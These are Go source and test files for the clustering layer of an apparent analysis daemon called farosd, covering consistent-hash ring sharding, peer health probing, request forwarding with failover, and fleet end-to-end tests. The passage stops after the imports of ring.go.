package cluster

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"sync"
	"time"

	"faros/internal/pipeline"
	"faros/internal/pipeline/client"
)

// Config describes one node's view of the fleet.
type Config struct {
	// Self is this node's ID. Required.
	Self string
	// Peers maps node ID to base URL for every node in the fleet. An
	// entry for Self is tolerated and ignored (peer files list the whole
	// fleet so every node can share one file).
	Peers map[string]string
	// VirtualNodes per ring node (<=0 uses DefaultVirtualNodes).
	VirtualNodes int
	// ProbeInterval is the steady-state peer health-probe cadence
	// (default 2s); down peers re-probe with jittered exponential
	// backoff up to MaxBackoff (default 30s).
	ProbeInterval time.Duration
	MaxBackoff    time.Duration
	// HTTP overrides the transport for probes and forwards.
	HTTP *http.Client
	// ForwardAttempts bounds the retrying client's tries per forward
	// (default 3 — forwards should fail over to local execution quickly,
	// not wait out a long backoff ladder).
	ForwardAttempts int
	// Seed makes probe jitter and forward backoff deterministic (0 =
	// fixed default).
	Seed uint64
}

// Cluster implements pipeline.Forwarder: the deterministic ring resolves
// every shard key to its owner, the registry tracks peer health, and
// per-peer retrying clients carry forwarded work with the hop-guard
// header pre-set.
type Cluster struct {
	self     string
	ring     *Ring
	registry *Registry

	mu      sync.Mutex
	clients map[string]*client.Client
}

// New validates cfg and builds the cluster state. Call Start to begin
// health probing and Close on shutdown.
func New(cfg Config) (*Cluster, error) {
	if cfg.Self == "" {
		return nil, errors.New("cluster: Config.Self is required")
	}
	peers := make(map[string]string, len(cfg.Peers))
	nodes := []string{cfg.Self}
	for node, url := range cfg.Peers {
		if node == cfg.Self {
			continue
		}
		if node == "" || url == "" {
			return nil, fmt.Errorf("cluster: peer entry %q=%q: both node ID and URL are required", node, url)
		}
		peers[node] = url
		nodes = append(nodes, node)
	}
	c := &Cluster{
		self: cfg.Self,
		ring: NewRing(nodes, cfg.VirtualNodes),
		registry: NewRegistry(RegistryConfig{
			Peers:      peers,
			Interval:   cfg.ProbeInterval,
			MaxBackoff: cfg.MaxBackoff,
			HTTP:       cfg.HTTP,
			Seed:       cfg.Seed,
		}),
		clients: make(map[string]*client.Client, len(peers)),
	}
	attempts := cfg.ForwardAttempts
	if attempts <= 0 {
		attempts = 3
	}
	hop := http.Header{pipeline.ForwardedHeader: []string{cfg.Self}}
	for node, url := range peers {
		cli, err := client.New(client.Config{
			BaseURL:     url,
			HTTP:        cfg.HTTP,
			MaxAttempts: attempts,
			BaseDelay:   50 * time.Millisecond,
			MaxDelay:    500 * time.Millisecond,
			Seed:        cfg.Seed,
			Headers:     hop,
		})
		if err != nil {
			return nil, fmt.Errorf("cluster: peer %s: %w", node, err)
		}
		c.clients[node] = cli
	}
	return c, nil
}

// Start launches peer health probing.
func (c *Cluster) Start() { c.registry.Start() }

// Close stops the probe loop.
func (c *Cluster) Close() { c.registry.Close() }

// Ring exposes the assignment ring (tests, tooling).
func (c *Cluster) Ring() *Ring { return c.ring }

// Registry exposes the health registry (tests, tooling).
func (c *Cluster) Registry() *Registry { return c.registry }

// NodeID implements pipeline.Forwarder.
func (c *Cluster) NodeID() string { return c.self }

// Owner implements pipeline.Forwarder.
func (c *Cluster) Owner(key string) (node string, self, up bool) {
	node = c.ring.Owner(key)
	if node == "" || node == c.self {
		return c.self, true, true
	}
	return node, false, c.registry.Up(node)
}

// WalkUp implements pipeline.Forwarder: the up peers in ring-walk order
// for a key, self excluded.
func (c *Cluster) WalkUp(key string) []string {
	var out []string
	for _, node := range c.ring.Replicas(key, c.ring.Len()) {
		if node == c.self || !c.registry.Up(node) {
			continue
		}
		out = append(out, node)
	}
	return out
}

// peerClient returns the retrying client for a peer.
func (c *Cluster) peerClient(node string) (*client.Client, error) {
	c.mu.Lock()
	cli, ok := c.clients[node]
	c.mu.Unlock()
	if !ok {
		return nil, fmt.Errorf("cluster: unknown peer %s", node)
	}
	return cli, nil
}

// forwardErr converts a client failure into the pipeline's typed view: a
// definitive peer status becomes *pipeline.ForwardError; transport
// give-ups mark the peer down (the probe loop restores it) and pass
// through as plain errors, which the caller degrades to local execution.
func (c *Cluster) forwardErr(node string, err error) error {
	var se *client.StatusError
	if errors.As(err, &se) {
		return &pipeline.ForwardError{Node: node, Status: se.Status, Msg: se.Msg}
	}
	c.registry.MarkDown(node, err.Error())
	return err
}

// AnalyzePeer implements pipeline.Forwarder.
func (c *Cluster) AnalyzePeer(ctx context.Context, node string, req pipeline.AnalyzeRequest) (*pipeline.JobView, error) {
	cli, err := c.peerClient(node)
	if err != nil {
		return nil, err
	}
	view, err := cli.Analyze(ctx, req)
	if err != nil {
		return nil, c.forwardErr(node, err)
	}
	return view, nil
}

// ResultPeer implements pipeline.Forwarder.
func (c *Cluster) ResultPeer(ctx context.Context, node string, hash string) (*pipeline.Result, error) {
	cli, err := c.peerClient(node)
	if err != nil {
		return nil, err
	}
	res, err := cli.Result(ctx, hash)
	if err != nil {
		return nil, c.forwardErr(node, err)
	}
	return res, nil
}

// TracePeer implements pipeline.Forwarder.
func (c *Cluster) TracePeer(ctx context.Context, node string, data []byte) (string, error) {
	cli, err := c.peerClient(node)
	if err != nil {
		return "", err
	}
	digest, _, err := cli.PutTrace(ctx, data)
	if err != nil {
		return "", c.forwardErr(node, err)
	}
	return digest, nil
}

// PeerHealth implements pipeline.Forwarder.
func (c *Cluster) PeerHealth() []pipeline.PeerHealth {
	st := c.registry.Status()
	out := make([]pipeline.PeerHealth, len(st))
	for i, p := range st {
		out[i] = pipeline.PeerHealth{Node: p.Node, URL: p.URL, Up: p.Up, LastError: p.LastErr}
	}
	return out
}

package cluster_test

import (
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"sort"
	"strings"
	"testing"

	"faros"
	"faros/internal/cluster"
	"faros/internal/pipeline"
	"faros/internal/samples"
	"faros/internal/scenario"
	"faros/internal/trace"
)

// node is one in-process farosd of the test fleet.
type node struct {
	id   string
	pool *pipeline.Pool
	clus *cluster.Cluster
	srv  *httptest.Server
	url  string
}

// newFleet boots n fully wired nodes: real pools, real handlers, real
// clusters, each listening on its own loopback port. The listener is
// bound before anything else so every node knows every URL up front.
func newFleet(t *testing.T, n int) []*node {
	t.Helper()
	nodes := make([]*node, n)
	urls := make(map[string]string, n)
	listeners := make([]net.Listener, n)
	for i := range nodes {
		ln, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		listeners[i] = ln
		id := fmt.Sprintf("node-%c", 'a'+i)
		nodes[i] = &node{id: id, url: "http://" + ln.Addr().String()}
		urls[id] = nodes[i].url
	}
	for i, nd := range nodes {
		clus, err := cluster.New(cluster.Config{Self: nd.id, Peers: urls, ForwardAttempts: 2})
		if err != nil {
			t.Fatal(err)
		}
		traces, err := trace.OpenStore(trace.StoreConfig{Dir: t.TempDir()})
		if err != nil {
			t.Fatal(err)
		}
		pool, err := pipeline.New(pipeline.Config{Workers: 2, NodeID: nd.id, Cluster: clus, Traces: traces})
		if err != nil {
			t.Fatal(err)
		}
		handler := pipeline.NewHandler(pool, pipeline.ServerConfig{
			Resolve: func(name string) (samples.Spec, bool) {
				spec, ok := faros.Scenarios()[name]
				return spec, ok
			},
			Names: faros.ScenarioNames,
		})
		srv := httptest.NewUnstartedServer(handler)
		srv.Listener.Close()
		srv.Listener = listeners[i]
		srv.Start()
		nd.pool, nd.clus, nd.srv = pool, clus, srv
		t.Cleanup(func() { srv.Close(); clus.Close(); pool.Close() })
	}
	// Probe synchronously instead of starting the background loops: the
	// fleet's health state is then deterministic at every assertion.
	for _, nd := range nodes {
		nd.clus.Registry().ProbeAll()
	}
	return nodes
}

func analyzeVia(t *testing.T, nd *node, body string) (int, pipeline.JobView) {
	t.Helper()
	resp, err := http.Post(nd.srv.URL+"/analyze", "application/json", strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var view pipeline.JobView
	_ = json.NewDecoder(resp.Body).Decode(&view)
	return resp.StatusCode, view
}

// findingSet flattens a result's findings for bit-identical comparison.
func findingSet(res *pipeline.Result) string {
	if res == nil {
		return "<none>"
	}
	keys := make([]string, 0, len(res.Findings))
	for _, f := range res.Findings {
		raw, _ := json.Marshal(f)
		keys = append(keys, string(raw))
	}
	sort.Strings(keys)
	return strings.Join(keys, "\n")
}

// TestClusterEndToEnd is the fleet acceptance test: the attack corpus
// submitted through one entry node of a 3-node fleet yields bit-identical
// findings to a single-node run, forwards show up on the entry node's
// counters, repeat reads hit the cross-node backfill, and killing a node
// degrades to local execution without a single failed job.
func TestClusterEndToEnd(t *testing.T) {
	if testing.Short() {
		t.Skip("full corpus fleet e2e")
	}
	nodes := newFleet(t, 3)
	entry := nodes[0]
	for _, ph := range entry.clus.PeerHealth() {
		if !ph.Up {
			t.Fatalf("peer %s down at fleet start: %s", ph.Node, ph.LastError)
		}
	}

	// Single-node reference: same corpus, no cluster.
	ref, err := pipeline.New(pipeline.Config{Workers: 2})
	if err != nil {
		t.Fatal(err)
	}
	defer ref.Close()
	refSrv := httptest.NewServer(pipeline.NewHandler(ref, pipeline.ServerConfig{
		Resolve: func(name string) (samples.Spec, bool) {
			spec, ok := faros.Scenarios()[name]
			return spec, ok
		},
	}))
	defer refSrv.Close()
	refNode := &node{id: "ref", srv: refSrv}

	attacks := faros.Attacks()
	hashes := make(map[string]string, len(attacks)) // scenario -> cache key
	for _, spec := range attacks {
		body := fmt.Sprintf(`{"scenario": %q, "wait": true}`, spec.Name)
		status, view := analyzeVia(t, entry, body)
		if status != http.StatusOK || view.State != pipeline.StateDone || view.Result == nil {
			t.Fatalf("%s via fleet: status %d view %+v", spec.Name, status, view)
		}
		refStatus, refView := analyzeVia(t, refNode, body)
		if refStatus != http.StatusOK || refView.Result == nil {
			t.Fatalf("%s via reference: status %d", spec.Name, refStatus)
		}
		if got, want := findingSet(view.Result), findingSet(refView.Result); got != want {
			t.Fatalf("%s: fleet findings differ from single-node:\nfleet:\n%s\nsolo:\n%s", spec.Name, got, want)
		}
		if view.Result.Hash != refView.Result.Hash {
			t.Fatalf("%s: cache key diverged across deployments: %s vs %s",
				spec.Name, view.Result.Hash, refView.Result.Hash)
		}
		hashes[spec.Name] = view.Result.Hash
	}

	// The ring must have spread the corpus: the entry node forwarded some
	// submissions out, and some peer saw them come in.
	st := entry.pool.Stats()
	if st.Cluster.ForwardedOut == 0 {
		t.Fatal("entry node never forwarded (all six specs self-owned is ring-implausible)")
	}
	if st.Cluster.Backfills == 0 {
		t.Fatal("forwarded results never backfilled")
	}
	var peerIn uint64
	for _, nd := range nodes[1:] {
		peerIn += nd.pool.Stats().Cluster.ForwardedIn
	}
	if peerIn == 0 {
		t.Fatal("no peer recorded a forwarded-in request")
	}

	// Every result now reads back on the entry node without leaving it
	// (backfill), and on any other node via the walk.
	for name, hash := range hashes {
		for _, nd := range nodes {
			resp, err := http.Get(nd.srv.URL + "/results/" + hash)
			if err != nil {
				t.Fatal(err)
			}
			resp.Body.Close()
			if resp.StatusCode != http.StatusOK {
				t.Fatalf("%s: result %s unreadable via %s: %d", name, hash, nd.id, resp.StatusCode)
			}
		}
	}

	// Kill node-c, let the fleet notice, and re-run work it owned through
	// the entry node: every job must still succeed (locally).
	down := nodes[2]
	down.srv.Close()
	for _, nd := range nodes[:2] {
		nd.clus.Registry().ProbeAll()
	}
	ranLocal := false
	for _, spec := range attacks {
		hash, err := samples.SpecHash(spec)
		if err != nil {
			t.Fatal(err)
		}
		if entry.clus.Ring().Owner(hash) != down.id {
			continue
		}
		ranLocal = true
		body := fmt.Sprintf(`{"scenario": %q, "wait": true, "no_cache": true}`, spec.Name)
		status, view := analyzeVia(t, entry, body)
		if status != http.StatusOK || view.State != pipeline.StateDone {
			t.Fatalf("%s with owner down: status %d view %+v", spec.Name, status, view)
		}
	}
	if !ranLocal {
		t.Skip("ring assigned no attack to node-c; degraded path untestable with this corpus")
	}
	if got := entry.pool.Stats().Cluster.OwnerDownLocalRuns; got == 0 {
		t.Fatal("owner-down degradation never counted")
	}
}

// TestClusterTraceFlow covers the trace surfaces: an upload to any node
// replicates to the digest's ring owner, and a trace-replay analysis
// entering at a third node forwards to the owner and still settles.
func TestClusterTraceFlow(t *testing.T) {
	if testing.Short() {
		t.Skip("records and replays a live scenario")
	}
	nodes := newFleet(t, 3)
	byID := map[string]*node{}
	for _, nd := range nodes {
		byID[nd.id] = nd
	}

	spec := faros.Scenarios()["reflective_dll_inject"]
	log, _, err := scenario.Record(spec)
	if err != nil {
		t.Fatal(err)
	}
	raw, digest, err := scenario.EncodeTrace(spec, log)
	if err != nil {
		t.Fatal(err)
	}
	owner := nodes[0].clus.Ring().Owner(digest)

	// Upload via a node that does not own the digest, so the replication
	// hop is exercised.
	uploader := nodes[0]
	for _, nd := range nodes {
		if nd.id != owner {
			uploader = nd
			break
		}
	}
	resp, err := http.Post(uploader.srv.URL+"/traces", "application/octet-stream", strings.NewReader(string(raw)))
	if err != nil {
		t.Fatal(err)
	}
	var put struct {
		Digest string `json:"digest"`
	}
	_ = json.NewDecoder(resp.Body).Decode(&put)
	resp.Body.Close()
	if resp.StatusCode != http.StatusCreated || put.Digest != digest {
		t.Fatalf("upload via %s: status %d digest %s (want %s)", uploader.id, resp.StatusCode, put.Digest, digest)
	}
	if _, ok := byID[owner].pool.Traces().Stat(digest); !ok {
		t.Fatalf("trace never replicated to its owner %s", owner)
	}

	// Analyze by digest through a node that is neither uploader nor
	// owner: it holds no copy, so the submission must forward.
	entry := nodes[0]
	for _, nd := range nodes {
		if nd.id != owner && nd != uploader {
			entry = nd
			break
		}
	}
	status, view := analyzeVia(t, entry, fmt.Sprintf(`{"trace": %q, "wait": true}`, digest))
	if status != http.StatusOK || view.State != pipeline.StateDone || view.Result == nil {
		t.Fatalf("trace analyze via %s: status %d view %+v", entry.id, status, view)
	}
	if view.Result.Mode != pipeline.ModeTrace || !view.Result.Flagged {
		t.Fatalf("trace replay result %+v", view.Result)
	}
	if entry.id != owner && entry != uploader {
		if got := entry.pool.Stats().Cluster.ForwardedOut; got == 0 {
			t.Fatal("trace-replay submission never forwarded from the copyless entry node")
		}
	}
}

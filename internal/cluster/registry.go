package cluster

import (
	"context"
	"fmt"
	"net/http"
	"sort"
	"sync"
	"time"
)

// ProbeFunc checks one peer's health; nil error means the peer is up.
// The default implementation GETs <url>/readyz and requires a 200 — a
// draining or shedding peer answers 503 there and is treated as down for
// forwarding purposes, exactly as a load balancer would treat it.
type ProbeFunc func(ctx context.Context, url string) error

// PeerStatus is one peer's observed health.
type PeerStatus struct {
	Node      string
	URL       string
	Up        bool
	LastProbe time.Time
	LastErr   string
}

// peer is the registry's mutable per-peer state; Registry.mu guards it.
type peer struct {
	node      string
	url       string
	up        bool
	probed    bool // at least one probe completed
	failures  int  // consecutive failures, drives the re-probe backoff
	nextProbe time.Time
	lastProbe time.Time
	lastErr   string
}

// RegistryConfig tunes a Registry.
type RegistryConfig struct {
	// Peers maps node ID to base URL. Required non-empty.
	Peers map[string]string
	// Interval is the steady-state probe cadence for up peers
	// (default 2s).
	Interval time.Duration
	// MaxBackoff caps the down-peer re-probe backoff (default 30s). A
	// down peer re-probes at Interval, 2*Interval, ... up to this cap,
	// each delay jittered over [d/2, d) so a fleet that lost one node
	// does not re-probe it in lockstep.
	MaxBackoff time.Duration
	// ProbeTimeout bounds one probe request (default 2s).
	ProbeTimeout time.Duration
	// Probe overrides the health check (tests; default GET /readyz).
	Probe ProbeFunc
	// HTTP is the transport for the default probe (default: a dedicated
	// client honoring ProbeTimeout).
	HTTP *http.Client
	// Seed makes the jitter stream deterministic (0 = fixed default).
	Seed uint64
	// now overrides the clock (tests).
	now func() time.Time
}

// Registry tracks peer liveness: every peer starts down-but-unprobed, a
// background loop probes /readyz, and up/down transitions follow with
// jittered exponential re-probe backoff for down peers. Forwarding paths
// consult Up; failed forwards call MarkDown for an immediate state flip
// instead of waiting out the probe interval.
type Registry struct {
	cfg   RegistryConfig
	probe ProbeFunc
	now   func() time.Time

	mu    sync.Mutex
	peers map[string]*peer
	st    uint64 // splitmix64 jitter state

	stop chan struct{}
	wg   sync.WaitGroup
	once sync.Once
}

// NewRegistry builds a registry over the peer set. Call Start to begin
// probing; until the first probe completes every peer reports down.
func NewRegistry(cfg RegistryConfig) *Registry {
	if cfg.Interval <= 0 {
		cfg.Interval = 2 * time.Second
	}
	if cfg.MaxBackoff <= 0 {
		cfg.MaxBackoff = 30 * time.Second
	}
	if cfg.ProbeTimeout <= 0 {
		cfg.ProbeTimeout = 2 * time.Second
	}
	if cfg.Seed == 0 {
		cfg.Seed = 0xFA405C10C1
	}
	if cfg.now == nil {
		cfg.now = time.Now
	}
	probe := cfg.Probe
	if probe == nil {
		httpc := cfg.HTTP
		if httpc == nil {
			httpc = &http.Client{Timeout: cfg.ProbeTimeout}
		}
		probe = func(ctx context.Context, url string) error {
			req, err := http.NewRequestWithContext(ctx, http.MethodGet, url+"/readyz", nil)
			if err != nil {
				return err
			}
			resp, err := httpc.Do(req)
			if err != nil {
				return err
			}
			resp.Body.Close()
			if resp.StatusCode != http.StatusOK {
				return fmt.Errorf("readyz: %s", resp.Status)
			}
			return nil
		}
	}
	r := &Registry{
		cfg:   cfg,
		probe: probe,
		now:   cfg.now,
		peers: make(map[string]*peer, len(cfg.Peers)),
		st:    cfg.Seed,
		stop:  make(chan struct{}),
	}
	for node, url := range cfg.Peers {
		r.peers[node] = &peer{node: node, url: url}
	}
	return r
}

// next is one splitmix64 draw (same tiny PRNG as internal/faults and the
// retrying client — deterministic, no global rand state). r.mu held.
func (r *Registry) next() uint64 {
	r.st += 0x9E3779B97F4A7C15
	z := r.st
	z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9
	z = (z ^ (z >> 27)) * 0x94D049BB133111EB
	return z ^ (z >> 31)
}

// jitter spreads a delay over [d/2, d); r.mu held.
func (r *Registry) jitter(d time.Duration) time.Duration {
	half := d / 2
	if half <= 0 {
		return d
	}
	return half + time.Duration(r.next()%uint64(half))
}

// backoff computes the re-probe delay after n consecutive failures:
// Interval * 2^(n-1), capped at MaxBackoff, jittered; r.mu held.
func (r *Registry) backoff(failures int) time.Duration {
	d := r.cfg.Interval
	for i := 1; i < failures && d < r.cfg.MaxBackoff; i++ {
		d *= 2
	}
	if d > r.cfg.MaxBackoff {
		d = r.cfg.MaxBackoff
	}
	return r.jitter(d)
}

// Start launches the probe loop. Idempotent.
func (r *Registry) Start() {
	r.once.Do(func() {
		r.wg.Add(1)
		go r.loop()
	})
}

// Close stops the probe loop and waits for it.
func (r *Registry) Close() {
	select {
	case <-r.stop:
	default:
		close(r.stop)
	}
	r.wg.Wait()
}

// loop wakes at a fraction of the probe interval and probes every peer
// whose next-probe time has passed. Probes run outside the lock.
func (r *Registry) loop() {
	defer r.wg.Done()
	tick := r.cfg.Interval / 8
	if tick < 10*time.Millisecond {
		tick = 10 * time.Millisecond
	}
	ticker := time.NewTicker(tick)
	defer ticker.Stop()
	r.ProbeAll() // immediate first pass: peers come up without waiting a full interval
	for {
		select {
		case <-r.stop:
			return
		case <-ticker.C:
			r.probeDue()
		}
	}
}

// probeDue probes every peer whose nextProbe has passed.
func (r *Registry) probeDue() {
	now := r.now()
	r.mu.Lock()
	due := make([]*peer, 0, len(r.peers))
	for _, p := range r.peers {
		if !now.Before(p.nextProbe) {
			due = append(due, p)
		}
	}
	r.mu.Unlock()
	for _, p := range due {
		r.probeOne(p)
	}
}

// ProbeAll synchronously probes every peer once, regardless of schedule
// (startup, tests).
func (r *Registry) ProbeAll() {
	r.mu.Lock()
	all := make([]*peer, 0, len(r.peers))
	for _, p := range r.peers {
		all = append(all, p)
	}
	r.mu.Unlock()
	for _, p := range all {
		r.probeOne(p)
	}
}

// probeOne runs one health check and applies the up/down transition.
func (r *Registry) probeOne(p *peer) {
	ctx, cancel := context.WithTimeout(context.Background(), r.cfg.ProbeTimeout)
	err := r.probe(ctx, p.url)
	cancel()
	now := r.now()
	r.mu.Lock()
	defer r.mu.Unlock()
	p.probed = true
	p.lastProbe = now
	if err == nil {
		p.up = true
		p.failures = 0
		p.lastErr = ""
		p.nextProbe = now.Add(r.jitter(r.cfg.Interval))
		return
	}
	p.up = false
	p.failures++
	p.lastErr = err.Error()
	p.nextProbe = now.Add(r.backoff(p.failures))
}

// Up reports whether a peer is currently healthy (false for unknown
// nodes and for peers not yet successfully probed).
func (r *Registry) Up(node string) bool {
	r.mu.Lock()
	defer r.mu.Unlock()
	p, ok := r.peers[node]
	return ok && p.up
}

// URL returns a peer's base URL.
func (r *Registry) URL(node string) (string, bool) {
	r.mu.Lock()
	defer r.mu.Unlock()
	p, ok := r.peers[node]
	if !ok {
		return "", false
	}
	return p.url, true
}

// MarkDown flips a peer down immediately (a forward to it just failed)
// and schedules a prompt re-probe; the probe loop restores it once
// /readyz answers again.
func (r *Registry) MarkDown(node string, reason string) {
	now := r.now()
	r.mu.Lock()
	defer r.mu.Unlock()
	p, ok := r.peers[node]
	if !ok {
		return
	}
	p.up = false
	p.probed = true
	p.failures++
	p.lastErr = reason
	p.lastProbe = now
	p.nextProbe = now.Add(r.backoff(p.failures))
}

// Status snapshots every peer's health, sorted by node ID.
func (r *Registry) Status() []PeerStatus {
	r.mu.Lock()
	out := make([]PeerStatus, 0, len(r.peers))
	for _, p := range r.peers {
		out = append(out, PeerStatus{
			Node: p.node, URL: p.url, Up: p.up,
			LastProbe: p.lastProbe, LastErr: p.lastErr,
		})
	}
	r.mu.Unlock()
	sort.Slice(out, func(i, j int) bool { return out[i].Node < out[j].Node })
	return out
}

package cluster

import (
	"context"
	"errors"
	"net/http"
	"net/http/httptest"
	"testing"

	"faros/internal/pipeline"
)

func TestClusterConfigValidation(t *testing.T) {
	if _, err := New(Config{}); err == nil {
		t.Fatal("missing Self must be rejected")
	}
	if _, err := New(Config{Self: "a", Peers: map[string]string{"": "http://x"}}); err == nil {
		t.Fatal("empty peer ID must be rejected")
	}
	if _, err := New(Config{Self: "a", Peers: map[string]string{"b": ""}}); err == nil {
		t.Fatal("empty peer URL must be rejected")
	}
	// A shared fleet file lists every node including self; the self entry
	// is ignored rather than rejected.
	c, err := New(Config{Self: "a", Peers: map[string]string{"a": "http://a", "b": "http://b"}})
	if err != nil {
		t.Fatal(err)
	}
	if got := c.Ring().Len(); got != 2 {
		t.Fatalf("ring has %d nodes, want 2 (self + b)", got)
	}
	if len(c.Registry().Status()) != 1 {
		t.Fatal("self must not be probed as a peer")
	}
}

func TestClusterOwnerAndWalk(t *testing.T) {
	c, err := New(Config{Self: "a", Peers: map[string]string{"b": "http://b", "c": "http://c"}})
	if err != nil {
		t.Fatal(err)
	}
	if c.NodeID() != "a" {
		t.Fatalf("NodeID() = %q", c.NodeID())
	}
	sawSelf, sawPeerDown := false, false
	for _, k := range testKeys(200) {
		node, self, up := c.Owner(k)
		if self {
			if node != "a" || !up {
				t.Fatalf("self-owned key %s: node=%s up=%v", k, node, up)
			}
			sawSelf = true
			continue
		}
		// No probe has run, so every peer owner must report down.
		if up {
			t.Fatalf("peer %s reports up before any probe", node)
		}
		sawPeerDown = true
		if c.Ring().Owner(k) != node {
			t.Fatalf("Owner disagrees with ring for %s", k)
		}
	}
	if !sawSelf || !sawPeerDown {
		t.Fatalf("key sample never exercised both branches (self=%v peer=%v)", sawSelf, sawPeerDown)
	}
	// With every peer down the up-walk is empty; self never appears.
	if walk := c.WalkUp("some-key"); len(walk) != 0 {
		t.Fatalf("WalkUp with all peers down = %v", walk)
	}
}

// TestClusterForwardErrors pins the error taxonomy: a definitive peer
// status becomes *pipeline.ForwardError and leaves the peer up; a
// transport failure marks the peer down and passes through.
func TestClusterForwardErrors(t *testing.T) {
	// Peer b answers 409 (a deterministic rejection); peer c is a dead
	// port (transport error).
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/readyz" {
			w.WriteHeader(http.StatusOK)
			return
		}
		if got := r.Header.Get(pipeline.ForwardedHeader); got != "a" {
			t.Errorf("forward arrived with hop header %q, want %q", got, "a")
		}
		http.Error(w, `{"error":"spec hash mismatch"}`, http.StatusConflict)
	}))
	defer srv.Close()

	c, err := New(Config{
		Self:            "a",
		Peers:           map[string]string{"b": srv.URL, "c": "http://127.0.0.1:1"},
		ForwardAttempts: 1,
	})
	if err != nil {
		t.Fatal(err)
	}
	c.Registry().ProbeAll()
	if !c.Registry().Up("b") {
		t.Fatal("b should probe up")
	}

	_, err = c.AnalyzePeer(context.Background(), "b", pipeline.AnalyzeRequest{Scenario: "x"})
	var fe *pipeline.ForwardError
	if !errors.As(err, &fe) || fe.Status != http.StatusConflict || fe.Node != "b" {
		t.Fatalf("want ForwardError{409, b}, got %v", err)
	}
	if !c.Registry().Up("b") {
		t.Fatal("a definitive peer answer must not mark the peer down")
	}

	_, err = c.ResultPeer(context.Background(), "c", "deadbeef")
	if err == nil || errors.As(err, &fe) {
		t.Fatalf("transport failure must pass through untyped, got %v", err)
	}
	if c.Registry().Up("c") {
		t.Fatal("transport failure must mark the peer down")
	}

	if _, err := c.AnalyzePeer(context.Background(), "ghost", pipeline.AnalyzeRequest{}); err == nil {
		t.Fatal("unknown peer must error")
	}
}

package cluster

import (
	"fmt"
	"testing"
)

// testKeys yields n deterministic shard-key-shaped strings.
func testKeys(n int) []string {
	out := make([]string, n)
	for i := range out {
		out[i] = fmt.Sprintf("sha256:%064x", i*2654435761)
	}
	return out
}

// TestRingReorderStability is the set-determinism property: the
// assignment depends only on the node ID set, never on the order the
// nodes were listed in (peer files are unordered JSON objects, so two
// nodes of one fleet must not disagree about ownership).
func TestRingReorderStability(t *testing.T) {
	nodes := []string{"a", "b", "c", "d", "e"}
	base := NewRing(nodes, 0)
	perms := [][]string{
		{"e", "d", "c", "b", "a"},
		{"c", "a", "e", "b", "d"},
		{"b", "e", "a", "d", "c"},
		// duplicates collapse, so a listing with repeats agrees too
		{"a", "a", "b", "c", "d", "e", "e"},
	}
	keys := testKeys(2000)
	for pi, perm := range perms {
		r := NewRing(perm, 0)
		for _, k := range keys {
			if got, want := r.Owner(k), base.Owner(k); got != want {
				t.Fatalf("perm %d: Owner(%s) = %s, want %s", pi, k, got, want)
			}
		}
	}
}

// TestRingRemovalRemap pins the consistent-hashing contract over 10k
// keys: removing one of N nodes remaps only that node's share (~1/N) of
// the key space, and every key it did not own keeps its owner.
func TestRingRemovalRemap(t *testing.T) {
	nodes := []string{"a", "b", "c", "d", "e"}
	full := NewRing(nodes, 0)
	without := NewRing([]string{"a", "b", "c", "d"}, 0) // "e" removed
	keys := testKeys(10000)
	moved := 0
	for _, k := range keys {
		before, after := full.Owner(k), without.Owner(k)
		if before != "e" && before != after {
			t.Fatalf("key %s moved %s -> %s though its owner never left", k, before, after)
		}
		if before != after {
			moved++
		}
	}
	// E[moved] = 10000/5 = 2000; with 64 vnodes the spread stays within a
	// loose factor-of-two band. A naive mod-N hash would move ~8000.
	if moved < 1000 || moved > 3500 {
		t.Fatalf("removing 1 of 5 nodes remapped %d/10000 keys, want ~2000", moved)
	}
	t.Logf("remapped %d/10000 keys (ideal 2000)", moved)
}

// TestRingSpread sanity-checks assignment balance: with 64 virtual nodes
// per node, no node's share over 10k keys should stray wildly from 1/N.
func TestRingSpread(t *testing.T) {
	r := NewRing([]string{"a", "b", "c", "d", "e"}, 0)
	counts := map[string]int{}
	for _, k := range testKeys(10000) {
		counts[r.Owner(k)]++
	}
	for node, n := range counts {
		if n < 800 || n > 3500 {
			t.Fatalf("node %s owns %d/10000 keys (ideal 2000): spread too skewed", node, n)
		}
	}
}

// TestRingReplicas pins the ordered-walk contract: the owner leads, every
// node appears at most once, and n clamps to the node count.
func TestRingReplicas(t *testing.T) {
	r := NewRing([]string{"a", "b", "c"}, 0)
	for _, k := range testKeys(100) {
		reps := r.Replicas(k, 5)
		if len(reps) != 3 {
			t.Fatalf("Replicas(%s, 5) = %v, want all 3 nodes", k, reps)
		}
		if reps[0] != r.Owner(k) {
			t.Fatalf("Replicas(%s)[0] = %s, owner is %s", k, reps[0], r.Owner(k))
		}
		seen := map[string]bool{}
		for _, n := range reps {
			if seen[n] {
				t.Fatalf("Replicas(%s) repeats node %s: %v", k, n, reps)
			}
			seen[n] = true
		}
	}
	if got := r.Replicas("k", 1); len(got) != 1 || got[0] != r.Owner("k") {
		t.Fatalf("Replicas(k, 1) = %v, want just the owner", got)
	}
	if NewRing(nil, 0).Replicas("k", 2) != nil {
		t.Fatal("empty ring must have no replicas")
	}
}

// TestRingGolden pins the hash placement itself. If this test breaks, the
// ring function changed — which silently reshuffles ownership across a
// mixed-version fleet mid-upgrade. Such a change needs a new domain tag
// (faros-ring-v2) and a deliberate migration, not a quiet edit.
func TestRingGolden(t *testing.T) {
	r := NewRing([]string{"node-a", "node-b", "node-c"}, 0)
	golden := map[string]string{
		"": "node-c",
		"sha256:0000000000000000000000000000000000000000000000000000000000000000": "node-b",
		"sha256:4bf5122f344554c53bde2ebb8cd2b7e3d1600ad631c385a5d7cce23c7785459a": "node-c",
		"deadbeef":  "node-a",
		"spec-hash": "node-a",
	}
	for key, want := range golden {
		if got := r.Owner(key); got != want {
			t.Errorf("Owner(%q) = %s, want %s", key, got, want)
		}
	}
}

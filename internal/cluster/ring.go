// Package cluster turns a set of farosd processes into one analysis
// fleet. Work is already content-addressed — every result and trace is
// keyed by a deterministic canonical hash — so the cluster shards those
// hashes across nodes with a consistent-hash ring, probes peer health
// against /readyz, and resolves each request to its owning node. The
// HTTP layer forwards non-owned work to the owner through the retrying
// client and backfills the answer into the local store, so repeat reads
// become cross-node cache hits; a down owner degrades to local
// execution (the analysis is deterministic on every node) rather than
// failing the request.
package cluster

import (
	"crypto/sha256"
	"encoding/binary"
	"sort"
)

